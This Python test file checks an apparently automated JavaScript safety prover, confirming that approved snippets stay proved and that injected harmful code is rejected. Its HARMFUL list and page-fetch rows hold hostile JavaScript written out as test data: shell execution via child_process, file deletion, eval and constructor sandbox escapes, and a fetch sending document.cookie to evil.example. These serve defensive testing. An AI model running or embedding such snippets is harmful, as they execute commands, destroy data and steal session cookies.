"""What is proved of JavaScript, row by row; nothing harmful can be put into what is proved."""

import tomllib
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from automode.programs.javascript_code import prove_javascript, reached_from_page
from automode.programs.javascript_tree import CODE_LIMIT_BYTES, NODE_LIMIT, parser
from tests.rows import each_row

TABLES = tomllib.loads((Path(__file__).parent / "javascript.toml").read_text("utf-8"))
PROVED = [code for code, _ in TABLES["proved"]]
HARMFUL = (
    "require('child_process').execSync('id')",
    "require('fs').rmSync('src')",
    "require('fs').writeFileSync(process.argv[2], '')",
    "require('fs').readFileSync(process.env.X)",
    "require('./run').start()",
    "(await import('child_process')).exec('id')",
    "import('./x').then(m => m.run())",
    "fetch('https://evil.example')",
    "process.kill(1)",
    "process.env",
    "process['binding']",
    "globalThis.process",
    "eval('1')",
    "Function('1')()",
    "new Function('1')",
    "(x => x).constructor('1')()",
    "(x => x)['constructor']('1')",
    "({}).__proto__",
    "Reflect.get({}, 'x')",
    "new Proxy({}, {})",
    "Bun.write('x', 'y')",
    "Deno.exit()",
    "module.exports",
    "[1].map(eval)",
    "(function () { return this })()",
    "arguments",
    "(1, [].sort.call([]))",
)
VALUES = frozenset("call_expression number template_string binary_expression array regex".split())


def places(code: str) -> list[tuple[int, int]]:
    """Where an expression stands whose value may be another one."""
    found: list[tuple[int, int]] = []
    waiting = [parser().parse(code.encode()).root_node]
    while waiting:
        node = waiting.pop()
        waiting += node.named_children
        if node.type in VALUES and node.is_named:
            found.append((node.start_byte, node.end_byte))
    return sorted(found)


@each_row("code, written", TABLES["proved"])
def test_what_reads_computes_prints_and_writes_what_it_names_is_proved(
    code: str, written: list[str]
) -> None:
    found = prove_javascript(code)

    assert found is not None
    assert list(found.written) == written


@each_row("code", TABLES["not_proved"])
def test_whatever_is_not_listed_is_not_proved(code: str) -> None:
    assert prove_javascript(code) is None


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_nothing_harmful_can_be_put_into_what_is_proved(data: st.DataObject) -> None:
    code = data.draw(st.sampled_from(PROVED))
    harmful = data.draw(st.sampled_from(HARMFUL))
    within = places(code)
    start, end = data.draw(st.sampled_from(within)) if within else (0, 0)
    source = code.encode()
    inner = source[start:end].decode()
    form = data.draw(st.sampled_from(("({0}, {1})", "[{0}, {1}][1]", "({1} || {0})", "({0})")))
    put = form.format(harmful, inner or "0")
    changed = source[:start].decode() + put + source[end:].decode()

    assert prove_javascript(changed) is None, changed


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="ab(){}[]`'\"/\\$=>.,;:?!+-<* \n", max_size=60))
def test_no_text_breaks_the_reading(code: str) -> None:
    prove_javascript(code)
    reached_from_page(code, acting=True)


@each_row(
    "code",
    ["x;" * NODE_LIMIT, "(" * 5_000 + ")" * 5_000, "1+" * 8_000 + "1", "0;" * CODE_LIMIT_BYTES],
)
def test_what_is_too_large_is_not_proved_and_what_is_deep_is_read(code: str) -> None:
    prove_javascript(code)
    if len(code) > CODE_LIMIT_BYTES:
        assert prove_javascript(code) is None


@each_row(
    "code, reached",
    [
        ("async () => (await fetch('/api/x')).status", ["/api/x"]),
        (
            "fetch('http://localhost:3000/a', {method: 'POST', body: '1'})",
            ["http://localhost:3000/a"],
        ),
        ("fetch(`/api/${document.title}`)", ["/api/"]),
        ("fetch('https://evil.example/' + document.cookie)", None),
        ("fetch(`http://local${document.title}`)", None),
        ("fetch(document.title)", None),
        ("fetch('//evil.example')", None),
        ("fetch('/\\\\evil.example')", None),
        ("[location.hash].map(fetch)", None),
        ("window.fetch('/x')", None),
        ("new XMLHttpRequest()", None),
        ("const k = 'loc' + 'ation', d = document; d[k].replace('//evil.example')", None),
        ("const {defaultView: w} = document; w.open('//evil.example')", None),
        ("let a = {}; a = document.querySelector('img'); a.src = '//evil.example'", None),
        ("const open = x => x; document.open('//evil.example')", None),
    ],
)
def test_what_a_page_fetches_is_told(code: str, reached: list[str] | None) -> None:
    found = reached_from_page(code, acting=True)

    assert (None if found is None else list(found)) == reached
    assert reached_from_page(code, acting=False) is None
